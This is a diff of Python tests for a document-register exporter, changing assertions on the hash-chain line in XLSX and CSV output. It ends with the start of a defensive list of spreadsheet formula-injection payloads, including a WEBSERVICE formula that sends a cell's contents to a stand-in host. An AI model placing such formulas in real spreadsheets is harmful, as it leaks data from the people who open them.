@@ -96,7 +96,8 @@ def test_xlsx_has_exactly_the_ten_columns_and_the_rows_of_the_year(
     assert all(r[7] is None and r[8] is None for r in rows)  # filled by hand on paper
     # The chain head under the table anchors the printed register (issue 13 item 4).
     head = archive.chain_head()
-    assert head.count == 4 and f"{head.hash} — đến dòng thứ 4" in chain_line(out)
+    assert head.count == 4 and chain_line(out).startswith(f"{CHAIN_LABEL} đến dòng thứ 4, in lúc")
+    assert chain_line(out).endswith(f"docgen archive verify --moc 4:{head.hash}")
 
 
 def test_xlsx_is_laid_out_for_printing(archive: Archive, tmp_path: Path) -> None:
@@ -142,7 +143,8 @@ def test_csv_has_the_ten_columns(archive: Archive, tmp_path: Path) -> None:
     assert [r[:2] for r in rows[1:-1]] == [["01/UBND-VHXH", "02/01/2026"],
                                            ["02/UBND-VHXH", "05/01/2026"],
                                            ["03/UBND-VHXH", "06/01/2026"]]
-    assert rows[-1][0].startswith(f"{CHAIN_LABEL}: {archive.chain_head().hash}")
+    assert rows[-1][0].startswith(CHAIN_LABEL)
+    assert rows[-1][0].endswith(f"--moc {archive.chain_head().anchor}")
 
 
 HOSTILE = ['=WEBSERVICE("http://x.invalid/?"&C5)', '=HYPERLINK("http://x.invalid","a")',
